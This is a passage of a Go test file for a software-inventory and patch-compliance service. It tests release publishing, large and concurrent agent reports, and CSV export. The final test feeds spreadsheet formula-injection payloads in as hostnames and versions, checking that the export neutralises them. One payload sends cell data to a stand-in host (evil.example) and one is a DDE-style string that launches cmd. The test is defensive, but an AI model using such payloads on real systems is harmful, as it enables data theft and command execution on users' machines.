		t.Errorf("after a new python 3.13 patch: %+v, before %+v; want one more patch-overdue install under a new catalog version", after, before)
	}
}

func TestPublishReleaseReEvaluates(t *testing.T) {
	e := newTestEnv(t)
	_, key := e.enroll(t, "install-1", "web1")
	latest := testCatalog(t).Evaluate("python", "3.13", time.Now(), catalog.DefaultPolicy()).Latest
	if code, _, b := e.report(t, key, fullReport("r1", "install-1", "web1", api.Item{Source: "dpkg", Name: "python3.13", Version: latest + "-1"})); code != 200 {
		t.Fatalf("report: %d %s", code, b)
	}
	ctx := context.Background()
	if err := e.svc.ReEvaluateIfStale(ctx); err != nil {
		t.Fatal(err)
	}
	admin := e.tokens[auth.RoleAdmin]
	post := func(t *testing.T, body string) (int, api.Error) {
		resp, b := e.do(t, "POST", api.PathCatalogReleases, admin, strings.NewReader(body), nil)
		var ae api.Error
		json.Unmarshal(b, &ae)
		return resp.StatusCode, ae
	}
	today := time.Now().UTC().Format(time.DateOnly)
	rel := `{"product":"python","cycle":"3.13","version":"3.13.99","date":"` + today + `"}`
	if code, ae := post(t, rel); code != http.StatusCreated {
		t.Fatalf("publish: %d %+v", code, ae)
	}
	if code, ae := post(t, rel); code != http.StatusConflict {
		t.Errorf("publish again: %d %+v, want 409", code, ae)
	}
	for _, tc := range []struct{ body, field string }{
		{`{"product":"no-such-product","cycle":"1","version":"1.0.1"}`, "product"},
		{`{"product":"python","cycle":"3.13","version":"3.13.100","date":"yesterday"}`, "date"},
		{`{"product":"python","cycle":"3.13","version":"3.13.100","colour":"red"}`, "colour"},
	} {
		t.Run(tc.field, func(t *testing.T) {
			if code, ae := post(t, tc.body); code != 400 || ae.Field != tc.field {
				t.Errorf("publish %s: %d %+v, want 400 naming %q", tc.body, code, ae, tc.field)
			}
		})
	}
	if err := e.svc.ReEvaluateIfStale(ctx); err != nil {
		t.Fatal(err)
	}
	d, err := e.st.HostDetail(ctx, store.Scope{}, "web1")
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range d.Verdicts {
		if v.Product == "python" && (v.Status != catalog.StatusPatchAvailable || v.Latest != "3.13.99") {
			t.Errorf("python after publishing 3.13.99: %+v, want patch-available with latest 3.13.99", v)
		}
	}
	var n int
	e.st.DB().QueryRow(`SELECT COUNT(*) FROM notifier_events WHERE kind = 'fleet'`).Scan(&n)
	if n < 1 {
		t.Errorf("fleet events after the verdict change = %d, want at least 1", n)
	}
}

// TestHugeInventory sends the largest report allowed (api.MaxItems items,
// gzip) and then a diff of it.
func TestHugeInventory(t *testing.T) {
	if testing.Short() {
		t.Skip("stores 100,000 items; skipped with -short")
	}
	e := newTestEnv(t)
	hostID, key := e.enroll(t, "install-1", "big")
	items := make([]api.Item, api.MaxItems)
	for i := range items {
		items[i] = api.Item{Source: "dpkg", Name: fmt.Sprintf("package-%06d", i), Version: fmt.Sprintf("1.%d-%d", i%17, i%3)}
	}
	r := fullReport("big-1", "install-1", "big", items...)
	body, _ := json.Marshal(r)
	start := time.Now()
	resp, b := e.do(t, "POST", api.PathReport, key, bytes.NewReader(gz(body)), map[string]string{"Content-Encoding": "gzip"})
	if resp.StatusCode != 200 {
		t.Fatalf("huge report: %d %s", resp.StatusCode, b)
	}
	first := time.Since(start)
	r.ReportID = "big-2"
	r.Items = r.Items[:api.MaxItems-10]
	body, _ = json.Marshal(r)
	start = time.Now()
	resp, b = e.do(t, "POST", api.PathReport, key, bytes.NewReader(gz(body)), map[string]string{"Content-Encoding": "gzip"})
	if resp.StatusCode != 200 {
		t.Fatalf("huge report diff: %d %s", resp.StatusCode, b)
	}
	t.Logf("100,000-item report stored in %v; a 10-item diff of it in %v", first.Round(time.Millisecond), time.Since(start).Round(time.Millisecond))
	h, _, err := e.st.FindHost(context.Background(), hostID)
	if err != nil || h.Items != api.MaxItems-10+1 {
		t.Errorf("items stored = %d (%v), want %d", h.Items, err, api.MaxItems-10+1)
	}
}

// TestConcurrentReports has many agents report at once (some repeating
// their report): every report is applied exactly once.
func TestConcurrentReports(t *testing.T) {
	e := newTestEnv(t)
	const hosts, rounds = 8, 5
	keys := make([]string, hosts)
	for i := range hosts {
		_, keys[i] = e.enroll(t, fmt.Sprint("c-", i), fmt.Sprint("conc-", i))
	}
	var wg sync.WaitGroup
	var mu sync.Mutex
	applied, dups := 0, 0
	for i := range hosts {
		for range 2 { // two senders per host send the same reports
			wg.Go(func() {
				for r := range rounds {
					items := []api.Item{{Source: "dpkg", Name: "python3", Version: fmt.Sprintf("3.11.%d-1", r)}, {Source: "dpkg", Name: fmt.Sprint("tool-", r), Version: "1"}}
					code, rr, b := e.report(t, keys[i], fullReport(fmt.Sprint("r", r), fmt.Sprint("c-", i), fmt.Sprint("conc-", i), items...))
					if code != 200 {
						t.Errorf("host %d round %d: %d %s", i, r, code, b)
						return
					}
					mu.Lock()
					if rr.Duplicate {
						dups++
					} else {
						applied++
					}
					mu.Unlock()
				}
			})
		}
	}
	wg.Wait()
	if applied != hosts*rounds || dups != hosts*rounds {
		t.Errorf("applied %d, duplicates %d; want %d each", applied, dups, hosts*rounds)
	}
	list, err := e.st.ListHosts(context.Background(), store.HostFilter{})
	if err != nil {
		t.Fatal(err)
	}
	for _, h := range list.Hosts {
		if h.Items != 3 { // python3, one tool, the OS
			t.Errorf("host %s has %d items, want 3", h.Hostname, h.Items)
		}
	}
}

// TestComplianceCSVNeutralisesFormulas sends hostile strings the way an agent
// reports them (a hostname and an installed version that a spreadsheet would
// run as formulas) and reads them back from the export: every such cell starts
// with a quote, and the CSV still parses into the same columns.
func TestComplianceCSVNeutralisesFormulas(t *testing.T) {
	e := newTestEnv(t)
	for i, tc := range []struct{ hostname, version string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "3.8.10-0ubuntu1~20.04"},
		{"+host", "3.8.10-1"},
		{"-host", "3.8.10-1"},
		{"@host", "3.8.10-1"},
		{"web1", "@SUM(1+1)*cmd|' /C calc'!A0"},
		{"web2", "=1+1"},
	} {
		install := fmt.Sprint("install-", i)
		_, key := e.enroll(t, install, tc.hostname)
		if code, _, b := e.report(t, key, fullReport("r1", install, tc.hostname, api.Item{Source: "dpkg", Name: "python3", Version: tc.version})); code != 200 {
			t.Fatalf("report from %q: %d %s", tc.hostname, code, b)
		}
	}
	resp, b := e.do(t, "GET", "/api/v1/compliance/export.csv", e.tokens[auth.RoleViewer], nil, nil)
	if resp.StatusCode != 200 {
		t.Fatalf("export.csv = %d %s", resp.StatusCode, b)
	}
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("export.csv does not parse: %v\n%s", err, b)
	}
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		if len(row) != 10 {
			t.Fatalf("row %q has %d cells, want 10", row, len(row))
		}
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s of row %q starts with %q: a spreadsheet runs it", rows[0][i], row, cell[0])
			}
		}
		seen[row[1]] = true
		seen[row[4]] = true
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+host", "'-host", "'@host", "'@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1"} {
		if !seen[want] {
			t.Errorf("export.csv lacks the neutralised cell %q:\n%s", want, b)
		}
	}
}
